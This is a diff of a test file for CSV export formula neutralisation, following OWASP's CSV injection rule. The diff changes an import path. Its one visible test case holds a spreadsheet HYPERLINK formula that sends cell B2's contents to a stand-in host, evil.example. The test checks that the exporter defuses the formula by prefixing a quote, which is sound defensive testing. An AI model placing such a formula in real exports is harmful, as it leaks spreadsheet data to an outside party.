@@ -1,6 +1,6 @@
 // Formula neutralisation of the CSV exports (OWASP's CSV injection rule).
 import { parse } from 'csv-parse/sync';
-import { csvExport, neutralised } from '../../shared/export/csvExport';
+import { csvExport, neutralised } from '../../shared/features/export/csvExport';
 
 test.each([
     ['=HYPERLINK("http://evil.example/?x="&B2,"x")', '\'=HYPERLINK("http://evil.example/?x="&B2,"x")'],
